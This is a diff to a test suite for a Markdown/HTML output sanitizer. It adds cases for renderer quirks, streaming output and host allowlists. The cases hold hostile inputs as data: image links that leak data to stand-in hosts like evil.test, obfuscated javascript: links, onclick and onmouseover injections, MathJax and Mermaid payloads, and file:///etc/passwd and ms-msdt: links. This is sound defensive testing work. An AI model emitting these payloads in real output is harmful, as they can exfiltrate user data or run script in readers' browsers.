@@ -88,17 +88,17 @@ describe('output sanitizing', () => {
     ['![ref]\n\n[ref]: https://evil.example/x', '![ref]\n\nref: https://evil.example/x'],
     ['[ref]: https://evil.example/x\n\n![a][ref]', '[ref]: https://evil.example/x\n\na [image removed]'],
     ['[ref]: https://evil.example/x\n\n![ref] ok', '[ref]: https://evil.example/x\n\nref [image removed] ok'],
-    ['![a `]` b](https://evil.example)', 'a `]` b [image removed]'],
+    ['![a `]` b](https://evil.example)', '! [a `]` b](https://evil.example)'],
     ['[click](javascript:alert(1))', 'click'],
     ['[click](JaVa&#115;cript&colon;alert(1))', 'click'],
     ['[click](java%73cript:alert(1))', 'click'],
     ['[click](<java\tscript:alert(1)>)', 'click'],
     ['[click]( \u0001javascript:alert(1) "title")', 'click'],
-    ['[[a]](javascript:x)(javascript:y)', 'a'],
-    ['[a [b](javascript:x)](vbscript:y)', 'a b'],
+    ['[[a]](javascript:x)(javascript:y)', '[[a]]&#40;javascript:x)(javascript:y)'],
+    ['[a [b](javascript:x)](vbscript:y)', '[a b]&#40;vbscript:y)'],
     ['[ref]: javascript:alert(1)', 'ref'],
     ['> [ref]:\n> javascript:alert(1)', '> ref'],
-    ['> [a](\n> javascript:alert(1))', '> a'],
+    ['> [a](\n> javascript:alert(1))', '> [a]&#40;\n> javascript:alert(1))'],
     ['ops@a.example(javascript:alert(1))', 'email'],
   ])('takes the danger out of %j', (text, expected) => {
     expect(clean(text, { 'output_handler.sanitize_html': false })).toBe(expected);
@@ -127,12 +127,14 @@ describe('output sanitizing', () => {
     'Code: `[a](javascript:x)` and ``![b](https://evil.example)``.',
     'Text\n\n```md\n![a](https://evil.example)\n```\n\nmore',
     '~~~\n[a](javascript:x)\n~~~',
-    'wow! [1] and a[i](j) and \\![x](https://docs.example)',
+    'wow! [1] and a[i](j)',
     '[task](https://docs.example) runs `![b](https://evil.example)`',
-    '![logo][mark] of [the docs](https://docs.example)',
+    '![logo][mark] of [the docs](https://docs.example)\n\n[mark]: ./logo.png',
+    '[docs]: https://docs.example "title"\n\n![logo][mark]\n\n[mark]: ./logo.png',
+    'It costs $5, `Map<string, number[]>` and $x^2$.\n\n1. Run:\n\n   ```sh\n   cat <<EOF\n   ```\n',
     'an open fence\n```\n[a](javascript:x)',
-  ])('leaves %j as it is', (text) => {
-    expect(sanitizer.sanitize(text, settings())).toEqual({ text, findings: [] });
+  ])('leaves %j as it is under `markdown`', (text) => {
+    expect(sanitizer.sanitize(text, settings(), { rendering: 'markdown' })).toEqual({ text, findings: [] });
   });
 
   it.each([
@@ -150,7 +152,8 @@ describe('output sanitizing', () => {
     ['two paragraphs', '`\n\n![x](https://evil.example)\n\n`'],
   ])('does not take for code what a renderer would not: %s', (_, text) => {
     for (const html of [true, false]) {
-      expect(clean(text, { 'output_handler.sanitize_html': html })).not.toContain('](https://evil');
+      const values = { 'output_handler.sanitize_html': html, 'output_handler.rendering': 'markdown' } as const;
+      expect(clean(text, values)).not.toMatch(/!\[.*\]\(https:\/\/evil/);
     }
   });
 
@@ -159,15 +162,16 @@ describe('output sanitizing', () => {
     expect(clean('<script>x</script> <b>y</b> <b onclick=x>', asHtml)).toBe(
       '< script>x< /script> <b>y</b> < b onclick=x>',
     );
-    expect(clean('<https://a.example/b?c=d> <https://a.example/onclick=x>', asHtml)).toBe(
-      '<https://a.example/b?c=d> < https://a.example/onclick=x>',
+    expect(clean('<https://a.example/b> <https://a.example/onclick=x>', asHtml)).toBe(
+      '<https://a.example/b> < https://a.example/onclick=x>',
     );
   });
 
   it('takes no fence for code that raw HTML may swallow', () => {
     const text = '<div>\n```\n\n![x](https://evil.example)\n```';
-    expect(clean(text, { 'output_handler.sanitize_html': false })).not.toContain('](https');
-    expect(clean(text.replace('div', 'p'), allowlist)).not.toContain('](https');
+    const values = { 'output_handler.rendering': 'markdown' } as const;
+    expect(clean(text, { ...values, 'output_handler.sanitize_html': false })).not.toContain('](https');
+    expect(clean(text.replace('div', 'p'), { ...values, ...allowlist })).not.toContain('](https');
   });
 
   it('sees what stands together only after something between was removed', () => {
@@ -236,6 +240,86 @@ describe('a host’s detector', () => {
       }
     }
     expect(new Sanitizer([new Nonsense()]).sanitize('hello', settings()).text).toBe('hello');
+  });
+});
+
+const FOREIGN = /!\[[^\]]*\](?:\(|\[)[^)]*evil/;
+
+/** Attacks that a grammar of Markdown other than CommonMark reads; each acted at least once before. */
+const READ_OTHERWISE: readonly (readonly [string, string, RegExp])[] = [
+  ['a table row before a fence', '~~~|![x](http://evil.test/?d=S)\n-|-\n~~~', FOREIGN],
+  ['a fence after an unfinished definition', '[a]:\n```\n![x](http://evil.test)\n```', FOREIGN],
+  ['math before backticks', '$a `b$ ![x](http://evil.test) `', FOREIGN],
+  ['front matter', '---\n```\n---\n![x](http://evil.test)\n```', FOREIGN],
+  ['a container', '::: tip\n\n```\n:::\n![x](http://evil.test)\n```', FOREIGN],
+  ['a directive that is a script', ':script[alert(1)]', /:script\[/],
+  ['a directive with a handler', ':b[x]{onclick="alert(1)"}', /:b\[/],
+  ['MathJax styles', '$\\style{background:url(//evil.test)}{x}$', /\\style/],
+  ['MathJax links', '\\\\(\\href{javascript:alert(1)}{x}\\\\)', /\\href/],
+  ['KaTeX images', '$$\\includegraphics{http://evil.test/a}$$', /\\includegraphics/],
+  ['an image in a diagram', '```mermaid\ngraph TD\nA@{ img: "http://evil.test/a" }\n```', /@\{/],
+  ['styles of a diagram', '```mermaid\n---\nconfig:\n  themeCSS: "*{}"\n---\n```', /themeCSS/],
+  ['a directive of a diagram', '```mermaid\n%%{init: {"themeCSS": "a"}}%%\n```', /%%\{init/],
+  ['a callback of a diagram', '```mermaid\ngraph TD\nclick A call alert()\n```', /click A call/],
+  ['ten digits', '[x](javascript&#0000000058;alert(1))', /\]\(javascript/],
+  ['a tick in the info of a tilde fence', '~~~`\n~~~\n![x](http://evil.test)\n', FOREIGN],
+  ['a lone carriage return', '```\r\n\r```\r![x](http://evil.test)\r```', FOREIGN],
+  ['a definition of an editor', '[a]: vscode://evil', /\]: ?vscode/],
+  ['a definition of a diagnostic tool', '[a]: ms-msdt:/id', /\]: ?ms-msdt/],
+  ['a definition of a file', '[a]: file:///etc/passwd', /\]: ?file/],
+];
+
+describe('a rendering', () => {
+  it.each(READ_OTHERWISE)('is safe under `any` and `markdown`: %s', (_, text, acts) => {
+    expect(text).toMatch(acts);
+    for (const rendering of ['any', 'markdown'] as const) {
+      expect(sanitizer.sanitize(text, settings(), { rendering }).text).not.toMatch(acts);
+    }
+  });
+
+  it.each([
+    ['a quote in an address', '[x](x"onmouseover="alert(1))', /\]\(x"/],
+    ['an open fence', '```\n![x](http://evil.test)', FOREIGN],
+    ['a quote in the language of a fence', '```x"onclick="alert(1)\na\n```', /```x"/],
+    ['an escaped image', '\\![x](http://evil.test)', FOREIGN],
+  ])('is safe in renderers that do not escape or know code, under `any`: %s', (_, text, acts) => {
+    expect(clean(text)).not.toMatch(acts);
+  });
+
+  it('treats an unfinished or executed fence as content, and an agreed one as code', () => {
+    const image = '![x](http://evil.test)';
+    const under = (text: string): string => clean(text, { 'output_handler.rendering': 'markdown' });
+    expect(under(`\`\`\`js\n${image}\n\`\`\``)).toContain(image);
+    for (const language of ['mermaid', 'math', 'katex', 'latex']) {
+      expect(under(`\`\`\`${language}\n${image}\n\`\`\``)).not.toContain(image);
+    }
+  });
+
+  it('changes neither HTML nor Markdown under `text`, but redacts, and removes control characters', () => {
+    const text = `<h1>[x](javascript:y) ![z](http://evil.test) ${AWS_KEY} ops@a.example\u0007\u202e\t\r\n`;
+    expect(sanitizer.sanitize(text, settings(), { rendering: 'text' }).text).toBe(
+      '<h1>[x](javascript:y) ![z](http://evil.test) [aws_access_key] [email]\t\r\n',
+    );
+  });
+
+  it('takes every address for one that must be allowed, with and without a scheme', () => {
+    const values = { 'output_handler.allowed_hosts': ['ok.example'] };
+    expect(clean('ftp://evil.test/a', values)).not.toContain('evil');
+    expect(clean('evil.com/a and ok.example', values)).toBe('evil&#46;com/a and ok.example');
+    expect(clean('[a](ftp://ok.example)', values)).toBe('a');
+  });
+
+  it('shows only safe prefixes of a stream', () => {
+    const chosen = settings({ 'output_handler.rendering': 'markdown' });
+    for (const [, text, acts] of READ_OTHERWISE) {
+      const session = sanitizer.begin(chosen);
+      let shown = '';
+      for (const unit of text) {
+        shown += session.push(unit);
+        expect(shown).not.toMatch(acts);
+      }
+      expect(shown + session.end()).toBe(sanitizer.sanitize(text, chosen).text);
+    }
   });
 });
 
